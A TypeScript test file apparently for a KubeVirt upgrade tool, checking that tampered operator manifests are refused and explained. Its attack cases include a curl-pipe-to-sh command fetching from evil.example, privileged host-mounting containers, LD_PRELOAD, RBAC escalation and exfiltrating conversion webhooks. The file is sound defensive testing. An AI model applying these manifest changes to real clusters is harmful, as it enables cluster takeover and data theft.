import { expect, test } from 'vitest'
import type { KubeObject } from '../../src/lib/kube/object.ts'
import { asYaml } from '../../src/lib/manifests/apply-manifest.ts'
import { byManifest, briefly as play, type Stage } from './stage.ts'

type Json = Record<string, unknown>
/** Changes the objects of a genuine manifest, or adds some. */
type Tampered = (objects: KubeObject[]) => readonly object[] | void

const rbac = 'rbac.authorization.k8s.io/v1'
const rbacGroup = 'rbac.authorization.k8s.io'
const find = (objects: readonly KubeObject[], kind: string) => {
  const found = objects.find((object) => object.kind === kind)
  if (!found) throw new Error(`no ${kind}`)
  return found as KubeObject & Json
}
const podOf = (objects: readonly KubeObject[]) =>
  (find(objects, 'Deployment')['spec'] as { template: { spec: Json & { containers: Json[] } } }).template.spec
const containerOf = (objects: readonly KubeObject[]) => podOf(objects).containers[0] as Json
const inKubevirt = (apiVersion: string, kind: string, name: string, more: Json = {}) => ({
  apiVersion,
  kind,
  metadata: { name, namespace: 'kubevirt' },
  ...more,
})
const envOf = (objects: readonly KubeObject[]) => containerOf(objects)['env'] as Json[]
const rulesOf = (objects: readonly KubeObject[]) => find(objects, 'ClusterRole')['rules'] as object[]
const operatorRole = (objects: readonly KubeObject[]) =>
  objects.find(
    ({ kind, metadata }) => kind === 'ClusterRole' && metadata.name === 'kubevirt-operator',
  ) as KubeObject & { rules: object[] }
const crdOf = (objects: readonly KubeObject[]) =>
  find(objects, 'CustomResourceDefinition') as unknown as KubeObject & { spec: Json }
const role = (name: string, rules: object[], more: Json = {}) => ({
  apiVersion: rbac,
  kind: 'ClusterRole',
  metadata: { name, ...more },
  rules,
})
const bindingOf = (name: string, of: string, subject: Json) => ({
  apiVersion: rbac,
  kind: 'ClusterRoleBinding',
  metadata: { name },
  roleRef: { apiGroup: rbacGroup, kind: 'ClusterRole', name: of },
  subjects: [subject],
})
const everything = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] }
const own = { kind: 'ServiceAccount', name: 'kubevirt-operator', namespace: 'kubevirt' }
const evilWebhook = {
  strategy: 'Webhook',
  webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://evil.example' } },
}

const attacks: readonly [string, RegExp, Tampered][] = [
  [
    'a second container in virt-operator',
    /adds the container miner \(evil\.example\/miner\)/,
    (objects) => void podOf(objects).containers.push({ name: 'miner', image: 'evil.example/miner' }),
  ],
  [
    'a privileged initContainer with hostPath and hostPID',
    /initContainer root .*hostPID.*hostPath as volume host.*container root: privileged/,
    (objects) =>
      void Object.assign(podOf(objects), {
        hostPID: true,
        initContainers: [
          {
            name: 'root',
            image: 'quay.io/kubevirt/virt-operator:v1.9.0',
            securityContext: { privileged: true },
          },
        ],
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
      }),
  ],
  ['hostNetwork alone', /sets hostNetwork/, (objects) => void (podOf(objects)['hostNetwork'] = true)],
  ['hostIPC alone', /sets hostIPC/, (objects) => void (podOf(objects)['hostIPC'] = true)],
  [
    'a hostPath alone',
    /mounts hostPath as volume etc/,
    (objects) => void (podOf(objects)['volumes'] = [{ name: 'etc', hostPath: { path: '/etc' } }]),
  ],
  [
    'the operator privileged',
    /container virt-operator: privileged, .*capability SYS_ADMIN/,
    (objects) =>
      void (containerOf(objects)['securityContext'] = {
        privileged: true,
        capabilities: { add: ['SYS_ADMIN'] },
      }),
  ],
  [
    'another command',
    /runs sh -c curl -s https:\/\/evil\.example\|sh in place of virt-operator/,
    (objects) => void (containerOf(objects)['command'] = ['sh', '-c', 'curl -s https://evil.example|sh']),
  ],
  [
    'a command in a hook',
    /runs a command of its own as lifecycle of container virt-operator/,
    (objects) =>
      void (containerOf(objects)['lifecycle'] = { postStart: { exec: { command: ['sh', '-c', 'id'] } } }),
  ],
  [
    'an image in the environment',
    /takes VIRT_HANDLER_IMAGE from evil\.example\/virt-handler:v1\.9\.0, another registry/,
    (objects) =>
      void envOf(objects).push({ name: 'VIRT_HANDLER_IMAGE', value: 'evil.example/virt-handler:v1.9.0' }),
  ],
  [
    'an image in the environment without a tag',
    /takes VIRT_HANDLER_IMAGE from evil\.example\/virt-handler, another registry/,
    (objects) => void envOf(objects).push({ name: 'VIRT_HANDLER_IMAGE', value: 'evil.example/virt-handler' }),
  ],
  [
    'a preloaded library',
    /sets LD_PRELOAD of container virt-operator/,
    (objects) => void envOf(objects).push({ name: 'LD_PRELOAD', value: '/p/x.so' }),
  ],
  [
    'another account for the operator',
    /runs under the account kubevirt-root, not kubevirt-operator/,
    (objects) => {
      podOf(objects)['serviceAccountName'] = 'kubevirt-root'
      return [inKubevirt('v1', 'ServiceAccount', 'kubevirt-root')]
    },
  ],
  [
    'an account of its own that may impersonate and make roles',
    /may impersonate users, impersonate groups, \* clusterroles\.rbac\.authorization\.k8s\.io.*kubevirt-helper gives rights to ServiceAccount kubevirt-helper/,
    () => [
      inKubevirt('v1', 'ServiceAccount', 'kubevirt-helper'),
      role('kubevirt-helper', [
        { apiGroups: [''], resources: ['users', 'groups'], verbs: ['impersonate'] },
        { apiGroups: [rbacGroup], resources: ['clusterroles', 'clusterrolebindings'], verbs: ['*'] },
      ]),
      bindingOf('kubevirt-helper', 'kubevirt-helper', { ...own, name: 'kubevirt-helper' }),
    ],
  ],
  [
    'rights for everybody who may view',
    /gives .*secrets.* to whoever has view/,
    () => [
      role('kubevirt-view', [{ apiGroups: [''], resources: ['secrets', 'pods/exec'], verbs: ['*'] }], {
        labels: { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' },
      }),
    ],
  ],
  [
    'aggregation of a role that is there',
    /ClusterRole kubevirt-operator is added to edit/,
    (objects) => {
      const { metadata } = operatorRole(objects)
      const aggregated = { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' }
      metadata.labels = { ...metadata.labels, ...aggregated }
    },
  ],
  [
    'a role of the system',
    /ClusterRole system:basic-user is not named as one of KubeVirt/,
    () => [role('system:basic-user', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }])],
  ],
  ['everything for the operator', /may do everything/, (objects) => void rulesOf(objects).push(everything)],
  [
    'every verb of a group that it had not',
    /ClusterRole kubevirt-operator may \* \*\.certificates\.k8s\.io|may \* \*\.admissionregistration/,
    (objects) => {
      const apiGroups = ['admissionregistration.k8s.io']
      operatorRole(objects).rules.push({ apiGroups, resources: ['*'], verbs: ['*'] })
    },
  ],
  [
    'keys to other rights',
    /may escalate clusterroles\.rbac\.authorization\.k8s\.io, bind clusterroles/,
    (objects) =>
      void rulesOf(objects).push({
        apiGroups: [rbacGroup],
        resources: ['clusterroles'],
        verbs: ['escalate', 'bind'],
      }),
  ],
  [
    'a conversion webhook of the CRD kubevirts',
    /kubevirts\.kubevirt\.io sends its objects to https:\/\/evil\.example/,
    (objects) => void (crdOf(objects).spec['conversion'] = evilWebhook),
  ],
  [
    'a conversion webhook of the CRD virtualmachines',
    /virtualmachines\.kubevirt\.io sends its objects to https:\/\/evil\.example/,
    (objects) => {
      const crd = structuredClone(crdOf(objects))
      crd.metadata.name = 'virtualmachines.kubevirt.io'
      Object.assign(crd.spec, {
        names: { kind: 'VirtualMachine', plural: 'virtualmachines', singular: 'virtualmachine' },
        conversion: evilWebhook,
      })
      return [crd]
    },
  ],
  [
    'a CRD of somebody else',
    /is of the group shop\.example/,
    (objects) => {
      const crd = structuredClone(crdOf(objects))
      crd.metadata.name = 'kubevirts.shop.example'
      crd.spec['group'] = 'shop.example'
      return [crd]
    },
  ],
  [
    'finalizers and owners of the CRD',
    /has the finalizer evil\.example\/keep/,
    (objects) =>
      void Object.assign(crdOf(objects).metadata, {
        finalizers: ['evil.example/keep'],
        ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'mine', uid: 'u' }],
      }),
  ],
  [
    'the default priority of all pods',
    /kubevirt-cluster-critical becomes the priority of all pods/,
    (objects) => void (find(objects, 'PriorityClass')['globalDefault'] = true),
  ],
  [
    'the journal of kvup',
    /ConfigMap kvup-journal is data for a program/,
    () => [inKubevirt('v1', 'ConfigMap', 'kvup-journal', { data: { kept: '{}' } })],
  ],
  [
    'rights for a user',
    /gives rights to User mallory/,
    () => [
      bindingOf('kubevirt-more', 'kubevirt-operator', { kind: 'User', name: 'mallory', apiGroup: rbacGroup }),
    ],
  ],
  [
    'rights for a group',
    /gives rights to Group system:authenticated/,
    () => [
      bindingOf('kubevirt-more', 'kubevirt-operator', {
        kind: 'Group',
        name: 'system:authenticated',
        apiGroup: rbacGroup,
      }),
    ],
  ],
  [
    'a Service that leads elsewhere',
    /Service kubevirt-x is reachable from outside, or leads there/,
    () => [
      inKubevirt('v1', 'Service', 'kubevirt-x', {
        spec: { type: 'ExternalName', externalName: 'evil.example' },
      }),
    ],
  ],
]

function tampered(stage: Stage, tamper: Tampered): string {
  const objects = structuredClone(stage.simulated.operatorManifest('v1.9.0'))
  return asYaml([...objects, ...((tamper(objects) ?? []) as KubeObject[])])
}

const paths = { manifest: 'file.yaml' } as const

test('M3 what a manifest adds to that of its release is refused, with what it is', async () => {
  await play(byManifest, async (stage) => {
    for (const [name, why, tamper] of attacks) {
      stage.files.set('file.yaml', tampered(stage, tamper))
      const { code, error, text } = await stage.upgrade('v1.9.0', paths)
      expect([name, code, error?.reason]).toEqual([name, 3, 'manifest-extras'])
      expect(text).toMatch(why)
    }
    stage.files.set(
      'file.yaml',
      tampered(stage, () => [inKubevirt('batch/v1', 'CronJob', 'a')]),
    )
    expect(await stage.upgrade('v1.9.0', paths)).toMatchObject({ code: 2, error: { reason: 'unknown-kind' } })
    // Images of another registry need a person's word, and --yes is none.
    const release = asYaml(stage.simulated.operatorManifest('v1.9.0'))
    stage.files.set('file.yaml', release.replaceAll('quay.io/kubevirt', 'evil.example/kubevirt'))
    const elsewhere = await stage.upgrade('v1.9.0', paths)
    expect(elsewhere).toMatchObject({ code: 3, error: { reason: 'manifest-registry' } })
    expect(elsewhere.text).toContain('evil.example/kubevirt')
    const namespace = find(stage.simulated.operatorManifest('v1.8.4'), 'Namespace')
    stage.simulated.store.put(stage.simulated.store.kinds.ofObject(namespace)!, {
      ...namespace,
      metadata: { name: 'kubevirt', labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
    })
    stage.files.set('file.yaml', release)
    const lowered = await stage.upgrade('v1.9.0', paths)
    expect(lowered).toMatchObject({ code: 3, error: { reason: 'manifest-extras' } })
    expect(lowered.text).toMatch(/lowers pod-security\.kubernetes\.io\/enforce from restricted to privileged/)
    expect(stage.writes()).toEqual([])
  })
})

test('M3 the dry run shows what pods run before versions, and what is new by name', async () => {
  await play(byManifest, async (stage) => {
    stage.files.set(
      'file.yaml',
      tampered(stage, (objects) => {
        Object.assign(podOf(objects), {
          hostPID: true,
          volumes: [{ name: 'host', hostPath: { path: '/' } }],
          initContainers: [{ name: 'root', image: 'evil.example/root' }],
        })
        return [inKubevirt('v1', 'ServiceAccount', 'kubevirt-helper')]
      }),
    )
    const dry = await stage.upgrade(
      'v1.9.0',
      { ...paths, dryRun: 'client', accept: ['manifest-extras'] },
      { output: 'wide' },
    )
    const at = (text: string) => dry.text.indexOf(text)
    for (const first of ['hostPID', 'hostPath', 'initContainers']) {
      expect(at(first)).toBeGreaterThan(0)
      expect(at(first)).toBeLessThan(at('KUBEVIRT_VERSION') === -1 ? Infinity : at('KUBEVIRT_VERSION'))
    }
    expect(dry.text).toContain('1 is new: ServiceAccount kubevirt-helper')
  })
})
